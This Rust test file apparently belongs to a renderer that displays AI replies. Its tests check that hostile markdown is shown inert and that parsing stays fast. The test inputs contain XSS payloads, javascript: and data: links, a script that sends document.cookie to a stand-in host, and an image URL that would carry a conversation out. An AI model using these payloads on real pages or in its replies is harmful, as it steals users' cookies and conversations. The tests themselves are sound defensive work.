//! Replies that were written to do harm, or to take for ever: they are displayed, and no more.

use std::time::Instant;

use super::document::{Document, Ending};
use super::math;
use super::parse::parse;
use super::samples::prefixes;
use super::tree::{Block, Inline};
use super::unfinished::presentable;

/// Everything in a tree that could lead out of the window.
#[derive(Debug, Default, PartialEq, Eq)]
struct Doors {
    links: Vec<String>,
    pictures: Vec<String>,
    /// The deepest nesting, of blocks and of what stands in a line.
    depth: usize,
}

impl Doors {
    fn of(text: &str) -> Self {
        let mut doors = Self::default();
        for block in &parse(text).blocks {
            doors.block(block, 1);
        }
        doors
    }

    fn block(&mut self, block: &Block, depth: usize) {
        self.depth = self.depth.max(depth);
        match block {
            Block::Paragraph(content) | Block::Heading { content, .. } => {
                self.inlines(content, depth + 1);
            }
            Block::Quote(blocks) | Block::Footnote { blocks, .. } => {
                for block in blocks {
                    self.block(block, depth + 1);
                }
            }
            Block::List(list) => {
                for block in list.items.iter().flat_map(|item| &item.blocks) {
                    self.block(block, depth + 2);
                }
            }
            Block::Table(table) => {
                let rows = table.rows.iter().map(AsRef::as_ref);
                for cell in [&table.head]
                    .into_iter()
                    .chain(rows)
                    .flat_map(|row| &row.cells)
                {
                    self.inlines(cell, depth + 2);
                }
            }
            Block::Code(_) | Block::Rule | Block::Html(_) => {}
        }
    }

    fn inlines(&mut self, content: &[Inline], depth: usize) {
        self.depth = self.depth.max(depth);
        for part in content {
            match part {
                Inline::Emphasis(inner) | Inline::Strong(inner) | Inline::Strikethrough(inner) => {
                    self.inlines(inner, depth + 1);
                }
                Inline::Link { address, content } => {
                    self.links.push(address.clone());
                    self.inlines(content, depth + 1);
                }
                Inline::Image { address, .. } => self.pictures.push(address.clone()),
                _ => {}
            }
        }
    }
}

#[test]
fn no_script_and_no_dangerous_address_gets_through() {
    for text in [
        "<script>fetch('https://evil.example/?' + document.cookie)</script>",
        "a <img src=x onerror=alert(1)> <svg/onload=alert(1)> <iframe src=javascript:alert(1)>",
        "[press](javascript:alert(1)) [press](JAVASCRIPT&colon;alert(1)) <javascript:alert(1)>",
        "[press](java\nscript:alert(1)) [press](\u{1}javascript:alert(1)) [x](data:text/html,x)",
        "[press][a]\n\n[a]: vbscript:alert(1)",
        "javascript:alert(1) javascript://evil.example/%0aalert(1) file:///etc/passwd",
        "[x](tauri://localhost/x) [x](http://) [x](//evil.example) [x](\\\\evil.example\\x)",
        "<a href=\"javascript:alert(1)\">x</a> <style>*{background:url(evil.example)}</style>",
        "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
    ] {
        assert_eq!(Doors::of(text).links, [""; 0], "{text}");
    }
    for tex in [
        r"\href{javascript:alert(1)}{x}",
        r"\url{javascript:alert(1)}",
        r"\includegraphics{https://evil.example/x.png}",
        r"\htmlStyle{background:url(https://evil.example)}{x}",
        r"\class{x}{y}",
    ] {
        assert_eq!(math::read(tex, true), None, "{tex} stays text");
    }
}

#[test]
fn a_picture_that_would_carry_data_away_is_an_address_to_read() {
    let text = "![ ](https://evil.example/p.png?q=the+whole+conversation)";
    let doors = Doors::of(text);
    assert_eq!(
        doors.pictures,
        ["https://evil.example/p.png?q=the+whole+conversation"],
        "the tree has no node that loads anything; the view draws this as words"
    );
    assert_eq!(doors.links, [""; 0]);
}

#[test]
fn depth_is_capped_whatever_nests() {
    for unit in [
        "> ", "- ", "1. ", "* > ", "**a ", "*a _b ", "[a](", "[^a]: ", "~~a **b ", "[![", "- [ ] ",
        "| ", "$", "\\(", "{", "`",
    ] {
        for text in [unit.repeat(20_000), indented(unit, 2_000)] {
            let depth = Doors::of(&text).depth;
            assert!(depth < 120, "{unit:?} nests {depth} deep");
        }
    }
}

/// Lines that are indented further and further.
fn indented(unit: &str, lines: usize) -> String {
    let line = |depth: usize| format!("{}{unit}x\n", "  ".repeat(depth % 200));
    (0..lines).map(line).collect()
}

/// Texts that parsers go over again and again, each as long as asked for.
fn awkward(length: usize) -> Vec<(&'static str, String)> {
    let of = |unit: &str| unit.repeat(length / unit.len() + 1);
    [
        ("words on one line", of("word ")),
        ("one word", of("x")),
        ("open brackets", of("[")),
        ("open links", of("[a](")),
        ("open emphasis", of("*a _b ")),
        ("marks", of("*_~`")),
        ("backticks", of("`` ` ``` ")),
        ("dollars", of("$ $$ $a")),
        ("escaped brackets", of(r"\( \[ ")),
        ("formulas", of(r"\(x\) $y$ ")),
        ("addresses", of("https://a.example/b ")),
        ("half addresses", of("://")),
        ("quotes", of("> ")),
        ("items", of("- ")),
        ("cells", of("| a ")),
        ("tags", of("<a ")),
        ("entities", of("&amp;&")),
        ("control characters", of("\0\u{8}\u{1b}[31m")),
        ("characters that turn", of("\u{202e}a\u{2066}b")),
        ("accents", of("a\u{301}\u{302}\u{303}")),
        ("rockets", of("🚀")),
    ]
    .into()
}

/// Lets a text arrive in small pieces; answers how many bytes were parsed.
fn parsed_bytes(text: &str) -> usize {
    let mut document = Document::default();
    let mut end = 0;
    while end < text.len() {
        end = (end + 128).min(text.len());
        if let Some(prefix) = text.get(..end) {
            document.grow(presentable(prefix), Ending::Mended);
        }
    }
    document.finish(text);
    document.parsed_bytes()
}

#[test]
fn awkward_texts_are_parsed_in_proportion_to_their_length() {
    for ((name, short), (_, long)) in awkward(12_000).into_iter().zip(awkward(24_000)) {
        let times = |text: &str| parsed_bytes(text) / text.len();
        let (of_short, of_long) = (times(&short), times(&long));
        assert!(
            2 * of_long <= 3 * of_short,
            "{name}: each byte was parsed {of_short} times, and in a longer text {of_long} times"
        );
    }
}

/// The parser itself must not go over its text again and again either. Work inside it cannot be
/// counted from outside, so this measures; the bound is far from what a slow machine takes, and
/// near enough for anything that grows with the square.
fn is_read_at_once(name: &str, text: &str) {
    let began = Instant::now();
    let blocks = parse(text).blocks.len();
    let took = began.elapsed();
    println!("{name}: {} bytes, {blocks} blocks in {took:?}", text.len());
    assert!(took.as_secs() < 60, "{name} took {took:?}");
}

#[test]
fn ten_megabytes_on_one_line_are_read() {
    is_read_at_once("one word", &"x".repeat(10_000_000));
    is_read_at_once("words", &"word ".repeat(2_000_000));
}

#[test]
fn awkward_texts_are_read_at_once() {
    for (name, text) in awkward(600_000) {
        is_read_at_once(name, &text);
    }
}

#[test]
fn every_beginning_of_a_hostile_text_is_shown() {
    let text = "<script>\n> - [x](javascript:x) `\u{202e}` $\\frac{$ \\[ **_~~[![a](\u{0}\n\n|-|\n";
    let mut document = Document::default();
    for prefix in prefixes(text) {
        document.grow(presentable(prefix), Ending::Mended);
    }
    document.finish(text);
    assert_eq!(
        document.blocks(),
        parse(text).blocks.as_slice(),
        "nothing of it is left out, and nothing left open"
    );
}
